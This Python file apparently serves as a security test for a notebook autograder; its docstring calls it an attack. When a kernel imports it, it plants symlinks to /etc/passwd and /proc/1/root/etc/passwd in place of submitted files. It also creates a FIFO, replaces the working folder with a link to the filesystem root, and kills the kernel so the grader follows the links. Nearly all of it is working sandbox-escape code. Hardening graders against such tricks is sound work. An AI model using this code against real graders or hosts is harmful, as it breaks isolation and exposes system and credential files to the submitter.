"""Attack: leave links and a FIFO where the grader copies the files of the next kernel (see README.md)."""

import os
import sys

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
HOME = "/home/student"


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _report():
    folder = os.getcwd()
    leftovers = [p for p in (f"{HOME}/planted-folder", f"{folder}.planted", f"{HOME}/tmp-link")
                 if os.path.lexists(p)]
    if leftovers:
        print(f"{MARK} this kernel's sandbox holds what the dead kernel planted: {leftovers}", flush=True)
    print("this kernel's working folder:", folder, sorted(os.listdir(folder)),
          "link" if os.path.islink(folder) else "a folder", flush=True)


def _plant():
    """Make the working folder a link to the host's root, plant links and a FIFO, then die."""
    folder = os.getcwd()
    done = []
    for name, target in (("regularization.py", "/etc/passwd"), ("numpy.py", "/proc/1/root/etc/passwd")):
        try:
            if os.path.lexists(name):
                os.rename(name, name + ".orig")
            os.symlink(target, name)
            done.append(f"{name} -> {target}")
        except OSError as error:
            done.append(f"{name}: {error!r}")
    try:
        os.mkfifo("notes.txt")
        done.append("a FIFO notes.txt")
    except OSError as error:
        done.append(f"notes.txt: {error!r}")
    try:
        os.rename(folder, f"{folder}.planted")  # the folder the grader opens by name...
        os.symlink("/", folder)                  # ...is now a link to the root (the host's, seen from the grader)
        os.symlink("/tmp", f"{HOME}/tmp-link")
        done.append(f"{folder} -> /")
    except OSError as error:
        done.append(f"replacing {folder}: {error!r}")
    print("planted:", "; ".join(done), flush=True)
    os._exit(1)  # the grader starts the next kernel and copies the files in again


if "ipykernel" in sys.modules:
    if os.environ.pop("DLCV_REPORT_ONLY", None):
        _report()
    else:
        _plant()
